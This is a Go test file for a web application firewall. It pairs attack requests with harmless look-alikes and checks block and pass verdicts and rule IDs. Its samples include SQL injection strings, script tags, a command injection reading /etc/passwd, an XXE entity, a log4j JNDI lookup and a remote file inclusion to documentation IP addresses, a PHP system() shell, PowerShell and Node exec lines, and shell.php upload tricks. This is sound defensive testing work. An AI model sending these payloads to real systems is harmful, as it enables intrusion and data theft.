package waf

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
)

const union = "1' UNION SELECT password FROM users-- -"

func escaped(s string) string {
	return strings.NewReplacer(" ", "%20", "'", "%27", "<", "%3C", ">", "%3E", `"`, "%22", ";", "%3B", "|", "%7C").Replace(s)
}

// attacks pairs each class of attack with a request that looks like it and is harmless.
func attacks() []struct {
	name   string
	attack sample
	want   int   // default 403
	rules  []int // of which each has to be among the matches
	benign sample
} {
	form := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	json := map[string]string{"Content-Type": "application/json"}
	xml := map[string]string{"Content-Type": "text/xml"}
	multi := map[string]string{"Content-Type": multipartType}
	kind := func(ct string) map[string]string { return map[string]string{"Content-Type": ct} }
	deep := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
	many := func(n int, last string) string {
		return "[" + strings.Repeat("1,", n-1) + `"` + last + `"]`
	}
	fillers := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "p%d=x&", i)
		}
		return b.String()
	}
	return []struct {
		name   string
		attack sample
		want   int
		rules  []int
		benign sample
	}{
		{
			name:   "sql injection in the query",
			attack: sample{target: "/app/x?id=" + escaped(union)},
			rules:  []int{942100},
			benign: sample{target: "/app/x?q=select%20a%20size%20from%20the%20list"},
		},
		{
			name:   "sql injection in a form",
			attack: sample{header: form, body: "a=1&id=" + escaped(union)},
			rules:  []int{942100},
			benign: sample{header: form, body: "name=Conan+O%27Brien&comment=It%27s+fine%2C+thanks%21"},
		},
		{
			name:   "sql injection in json",
			attack: sample{header: json, body: `{"query":{"name":"` + union + `"}}`},
			rules:  []int{942100},
			benign: sample{header: json, body: `{"name":"O'Brien","tags":["a","b"],"n":1.5,"ok":true,"none":null}`},
		},
		{
			name:   "sql injection hidden by a dotted key",
			attack: sample{header: json, body: `{"account":{"role":"` + union + `"},"account.role":"safe"}`},
			rules:  []int{942100},
			benign: sample{header: json, body: `{"account":{"role":"admin"},"account.role":"safe"}`},
		},
		{
			name:   "sql injection in a cookie without a name",
			attack: sample{header: map[string]string{"Cookie": "a=1; =" + union}},
			rules:  []int{942100},
			benign: sample{header: map[string]string{"Cookie": "a=1; theme=dark"}},
		},
		{
			name:   "sql injection in json without a type",
			attack: sample{body: `{"a":"` + union + `"}`},
			rules:  []int{942100},
			benign: sample{body: `{"a":"hello world"}`},
		},
		{
			name:   "text without a type",
			attack: sample{body: "hello"},
			benign: sample{header: kind("text/plain"), body: "hello"},
		},
		{
			name:   "lines of text without a type",
			attack: sample{body: "hello\nworld\n"},
			rules:  []int{920640},
			benign: sample{header: kind("text/plain"), body: "hello\nworld\n"},
		},
		{
			name:   "sql injection in json sent as text",
			attack: sample{header: kind("text/plain"), body: `{"a":"1\u0027 UNION SELECT password FROM users-- -"}`},
			rules:  []int{942100},
			benign: sample{header: kind("text/plain;charset=UTF-8"), body: `{"a":"hello world"}`},
		},
		{
			name:   "sql injection in the second line of a text",
			attack: sample{header: kind("text/plain"), body: "Hello,\nid=" + union + "\n"},
			rules:  []int{942100},
			benign: sample{header: kind("text/plain"), body: "Hello,\r\n\r\nthe sum is a = b + 1 & that is all.\r\n\r\nBye\r\n"},
		},
		{
			name:   "escaped sql injection in a text of several lines, for an application that reads any body as a form",
			attack: sample{header: kind("text/plain"), body: "100%\n&id=" + escaped(union)},
			rules:  []int{942100},
			benign: sample{header: kind("text/csv"), body: "id,name\n1,\"O'Neil, Bob\"\n2,Ann\n"},
		},
		{
			name:   "escaped sql injection behind a name of several lines",
			attack: sample{header: kind("text/markdown"), body: "# 100%\nid=" + escaped(union)},
			rules:  []int{942100},
			benign: sample{header: kind("text/markdown"), body: "# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"},
		},
		{
			name:   "escaped header injection in the name of a field sent as text",
			attack: sample{header: kind("text/plain"), body: "a%0d%0aSet-Cookie: x=1\n"},
			rules:  []int{921150},
			benign: sample{header: kind("text/calendar"), body: "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n"},
		},
		{
			name:   "sql injection in json sent as a form",
			attack: sample{header: form, body: `{"a":"1\u0027 UNION SELECT password FROM users-- -"}`},
			rules:  []int{942100},
			benign: sample{header: form, body: `{"a":"hello"}`},
		},
		{
			name:   "sql injection in json sent as bytes",
			attack: sample{header: kind("application/octet-stream"), body: `{"a":"` + union + `"}`},
			rules:  []int{942100},
			benign: sample{header: kind("application/octet-stream"), body: "\x00\x01\x02\xff\xfe1' UNION"},
		},
		{
			name:   "sql injection in vendor json",
			attack: sample{header: kind("application/vnd.api+json"), body: `{"a":"` + union + `"}`},
			rules:  []int{942100},
			benign: sample{header: kind("application/vnd.api+json"), body: `{"data":{"type":"articles","id":"1"}}`},
		},
		{
			name:   "sql injection in the second json line",
			attack: sample{header: kind("application/x-ndjson"), body: "{\"a\":1}\n{\"a\":\"" + union + "\"}\n"},
			rules:  []int{942100},
			benign: sample{header: kind("application/x-ndjson"), body: "{\"a\":1}\n\n{\"a\":\"two\"}\n"},
		},
		{
			name:   "sql injection in an xml attribute",
			attack: sample{header: xml, body: `<?xml version="1.0"?><a b="` + union + `"/>`},
			rules:  []int{942100},
			benign: sample{header: xml, body: `<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><s:Body><m:Price xmlns:m="https://shop.example.org/prices" xsi:type="m:Item">3.50</m:Price></s:Body></s:Envelope>`},
		},
		{
			name:   "sql injection in xml text",
			attack: sample{header: kind("application/soap+xml"), body: `<a><b>` + union + `</b></a>`},
			rules:  []int{942100},
			benign: sample{header: kind("application/soap+xml"), body: `<a><b>apples and pears</b></a>`},
		},
		{
			name:   "sql injection in json with more behind it",
			attack: sample{header: form, body: `{"a":"1\u0027 or \u00271\u0027=\u00271"} ,`},
			rules:  []int{942100},
			benign: sample{header: kind("text/plain"), body: "[1] is a footnote, {2} is not"},
		},
		{
			name:   "sql injection in json lines sent as text",
			attack: sample{header: kind("text/plain"), body: "{\"a\":1}\n{\"a\":\"" + union + "\"}\n"},
			rules:  []int{942100},
			benign: sample{header: kind("text/plain"), body: "{\"a\":1}\n{\"a\":2}\n"},
		},
		{
			name:   "sql injection in json behind a byte order mark",
			attack: sample{header: kind("text/plain"), body: "\ufeff{\"a\":\"1\\u0027 UNION SELECT password FROM users-- -\"}"},
			rules:  []int{942100},
			benign: sample{header: json, body: "\ufeff{\"a\":1}"},
		},
		{
			name:   "compressed body",
			attack: sample{header: map[string]string{"Content-Type": "application/json", "Content-Encoding": "gzip"}, body: "\x1f\x8b\x08"},
			want:   415,
			rules:  []int{200011},
			benign: sample{header: map[string]string{"Content-Type": "application/json", "Content-Encoding": "Identity"}, body: `{}`},
		},
		{
			name:   "xml that is left open",
			attack: sample{header: xml, body: `<a b="` + union},
			want:   400,
			rules:  []int{200002},
			benign: sample{header: xml, body: `<a b="c"></a>`},
		},
		{
			name:   "xml that fetches a file",
			attack: sample{header: xml, body: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`},
			rules:  []int{190200},
			benign: sample{header: kind("image/svg+xml"), body: `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg><title>x</title></svg>`},
		},
		{
			name:   "xml that cannot be read",
			attack: sample{header: xml, body: `<a><b </a>`},
			want:   400,
			rules:  []int{200002},
			benign: sample{header: xml, body: `<a><b/></a>`},
		},
		{
			name:   "script in the query",
			attack: sample{target: "/app/x?q=" + escaped("<script>alert(1)</script>")},
			rules:  []int{941100},
			benign: sample{target: "/app/x?q=5%20%3C%206%20but%20not%20%3E%202"},
		},
		{
			name:   "script in a header",
			attack: sample{header: map[string]string{"Referer": "https://a.example/?<script>alert(1)</script>"}},
			rules:  []int{941110},
			benign: sample{header: map[string]string{"Referer": "https://a.example/search?q=scripts&lang=en"}},
		},
		{
			name:   "command in a form",
			attack: sample{header: form, body: "host=" + escaped("127.0.0.1;cat /etc/passwd")},
			rules:  []int{932160},
			benign: sample{header: form, body: "note=the+cat+sat+on+the+mat"},
		},
		{
			name:   "powershell in json",
			attack: sample{header: json, body: `{"c":"powershell.exe -NoP -NonI Invoke-Expression(New-Object Net.WebClient)"}`},
			rules:  []int{932120},
			benign: sample{header: json, body: `{"c":"the power of shells"}`},
		},
		{
			name:   "path traversal in the query",
			attack: sample{target: "/app/x?file=../../../../etc/passwd"},
			rules:  []int{930100},
			benign: sample{target: "/app/x?file=reports/2026/summary.pdf"},
		},
		{
			name:   "file inclusion from elsewhere",
			attack: sample{target: "/app/x?page=http://192.0.2.7/shell.txt"},
			rules:  []int{931100},
			benign: sample{target: "/app/x?return=/account/orders"},
		},
		{
			name:   "php in a form",
			attack: sample{header: form, body: "x=" + escaped("<?php system($_GET['c']); ?>")},
			rules:  []int{933100},
			benign: sample{header: form, body: "x=php+is+a+language"},
		},
		{
			name:   "log4j lookup in a header",
			attack: sample{header: map[string]string{"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"}},
			rules:  []int{944150},
			benign: sample{header: map[string]string{"X-Api-Version": "2026-11-01"}},
		},
		{
			name:   "java class in json",
			attack: sample{header: json, body: `{"x":"java.lang.Runtime.getRuntime().exec('id')"}`},
			rules:  []int{944100},
			benign: sample{header: json, body: `{"x":"java and javascript"}`},
		},
		{
			name:   "node injection in json",
			attack: sample{header: json, body: `{"x":"require('child_process').exec('id')"}`},
			rules:  []int{934100},
			benign: sample{header: json, body: `{"x":"we require a child to be with an adult"}`},
		},
		{
			name:   "scanner",
			attack: sample{header: map[string]string{"User-Agent": "sqlmap/1.8 (https://sqlmap.org)"}},
			rules:  []int{913100},
			benign: sample{header: map[string]string{"User-Agent": "curl/8.11.0"}},
		},
		{
			name:   "method that is not served",
			attack: sample{method: "PROPFIND"},
			rules:  []int{911100},
			benign: sample{method: "DELETE"},
		},
		{
			name:   "two content types",
			attack: sample{header: kind(multipartType + "\x00application/x-www-form-urlencoded"), body: multipartBody("Content-Disposition: form-data; name=\"a\"\r\n\r\n" + union)},
			want:   400,
			rules:  []int{200010},
			benign: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"a\"\r\n\r\nhello")},
		},
		{
			name:   "two charsets",
			attack: sample{header: kind("application/x-www-form-urlencoded; charset=utf-8; charset=utf-7"), body: "a=x"},
			rules:  []int{920530},
			benign: sample{header: kind("application/x-www-form-urlencoded; charset=utf-8"), body: "a=x"},
		},
		{
			name:   "charset that is not read",
			attack: sample{header: kind("application/json; charset=utf-16"), body: "{\x00\"\x00a\x00\"\x00:\x001\x00}\x00"},
			want:   400,
			rules:  []int{920480, 200002},
			benign: sample{header: kind("application/json; charset=utf-8"), body: `{"a":"ü"}`},
		},
		{
			name:   "utf-16 json without a word about it",
			attack: sample{header: json, body: "{\x00\"\x00a\x00\"\x00:\x001\x00}\x00"},
			want:   400,
			rules:  []int{200002},
			benign: sample{header: json, body: "{\n}"},
		},
		{
			name:   "header internal to a framework",
			attack: sample{header: map[string]string{"X-Middleware-Subrequest": "middleware:middleware"}},
			rules:  []int{190100},
			benign: sample{header: map[string]string{"X-Middleware-Prefetch": "1", "X-Nextjs-Data": "1"}},
		},
		{
			name:   "header that names another path",
			attack: sample{header: map[string]string{"X-Original-Url": "/admin"}},
			rules:  []int{190100},
			benign: sample{header: map[string]string{"X-Requested-With": "XMLHttpRequest"}},
		},
		{
			name:   "payload behind more arguments than are read",
			attack: sample{target: "/app/x?" + fillers(1001) + "id=" + escaped(union)},
			want:   400,
			rules:  []int{200004},
			benign: sample{target: "/app/x?" + fillers(40) + "id=1"},
		},
		{
			name:   "payload behind more form fields than are read",
			attack: sample{header: form, body: fillers(1001) + "id=" + escaped(union)},
			want:   400,
			rules:  []int{200005},
			benign: sample{header: form, body: fillers(40) + "id=1"},
		},
		{
			name:   "json with more values than are read",
			attack: sample{header: json, body: many(1001, union)},
			want:   400,
			rules:  []int{200005},
			benign: sample{header: json, body: many(50, "x")},
		},
		{
			name:   "deep json",
			attack: sample{header: json, body: deep(3000)},
			want:   400,
			rules:  []int{200002},
			benign: sample{header: json, body: deep(20)},
		},
		{
			name:   "json that is none",
			attack: sample{header: json, body: `{"a":1}}`},
			want:   400,
			rules:  []int{200002},
			benign: sample{header: json, body: ` {"a":1} `},
		},
		{
			name:   "double slash before the payload",
			attack: sample{target: "//evil/uploads/x.php?a=" + escaped(union)},
			rules:  []int{942100},
			benign: sample{target: "/uploads/x.html?a=1"},
		},
		{
			name:   "payload behind 20 kB of query",
			attack: sample{target: "/app/x?f=" + strings.Repeat("a", 20000) + "&id=" + escaped(union)},
			rules:  []int{942100},
			benign: sample{target: "/app/x?f=" + strings.Repeat("a", 2000)},
		},
		{
			name:   "upload of a program",
			attack: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nx")},
			rules:  []int{933110},
			benign: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"f\"; filename=\"holiday.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\x00")},
		},
		{
			name:   "upload of a program under a second name",
			attack: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"f\"; filename=\"safe.jpg\"; filename*=iso-8859-1''shell.php\r\n\r\nx")},
			rules:  []int{933110},
			benign: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"f\"; filename=\"e.jpg\"; filename*=UTF-8''%C3%A9.jpg\r\n\r\nx")},
		},
		{
			name:   "upload of a program with a blank behind its name",
			attack: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"f\"; filename=\"shell.php \"\r\n\r\nx")},
			rules:  []int{933110},
			benign: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"f\"; filename=\"my holiday.jpg\"\r\n\r\nx")},
		},
		{
			name:   "field that some take for a file",
			attack: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"a\"; filename*=UTF-8''x.txt\r\n\r\n" + union)},
			rules:  []int{942100},
			benign: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"a\"; filename*=UTF-8''x.txt\r\n\r\nIt's O'Brien's.\r\n")},
		},
		{
			name: "charset of the first part",
			attack: sample{header: multi, body: multipartBody(
				"Content-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-",
				"Content-Disposition: form-data; name=\"b\"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nx")},
			rules: []int{922110},
			benign: sample{header: multi, body: multipartBody(
				"Content-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nx")},
		},
		{
			name:   "encoded part",
			attack: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64\r\n\r\nMScgVU5JT04=")},
			rules:  []int{922120},
			benign: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"a\"\r\n\r\nMScgVU5JT04=")},
		},
		{
			name:   "multipart without an end",
			attack: sample{header: multi, body: "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1' UNION SELECT 1\r\n"},
			want:   400,
			rules:  []int{200003},
			benign: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"a\"\r\n\r\n1")},
		},
		{
			name:   "sql injection in a part",
			attack: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"a\"\r\n\r\n" + union)},
			rules:  []int{942100},
			benign: sample{header: multi, body: multipartBody("Content-Disposition: form-data; name=\"a\"\r\n\r\nIt's O'Brien's.")},
		},
	}
}

// The decision itself, class by class.
func TestCheckRefusesAttacksAndPassesTheirLikes(t *testing.T) {
	t.Parallel()
	e := newTestEngine(t, Config{}, "")
	for _, tt := range attacks() {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			v := e.check(tt.attack.request())
			defer v.body.release()
			want := tt.want
			if want == 0 {
				want = http.StatusForbidden
			}
			if got := verdictOf(v); got != want {
				t.Errorf("attack: got status %d, want %d (matches %+v)", got, want, v.result.Matches)
			}
			for _, id := range tt.rules {
				if !slices.Contains(ids(v.result), id) {
					t.Errorf("attack: rules got %v, want %d among them", ids(v.result), id)
				}
			}
			v = e.check(tt.benign.request())
			defer v.body.release()
			if got := verdictOf(v); got != http.StatusOK {
				t.Errorf("benign: got status %d, want 200 (%v, matches %+v)", got, v.err, v.result.Matches)
			}
		})
	}
}

// One request has one verdict, however it comes.
func TestEveryTransportHasTheSameVerdict(t *testing.T) {
	t.Parallel()
	f := newFront(t, newTestEngine(t, Config{}, ""))
	for i, tt := range attacks() {
		if raceEnabled && i%4 != 1 {
			continue // every rule is slow under the race detector
		}
		want := tt.want
		if want == 0 {
			want = http.StatusForbidden
		}
		for _, tr := range transports() {
			if got, _ := f.send(t, tr, tt.attack); got != want {
				t.Errorf("%s over %s: got %d, want %d", tt.name, tr.name, got, want)
			}
			if seen := f.bodies(); len(seen) > 0 {
				t.Errorf("%s over %s: reached the handler", tt.name, tr.name)
			}
			got, echo := f.send(t, tr, tt.benign)
			if got != http.StatusOK || echo != tt.benign.body {
				t.Errorf("%s, its like over %s: got %d and %d bytes, want 200 and %d bytes", tt.name, tr.name, got, len(echo), len(tt.benign.body))
			}
			f.bodies()
		}
	}
}
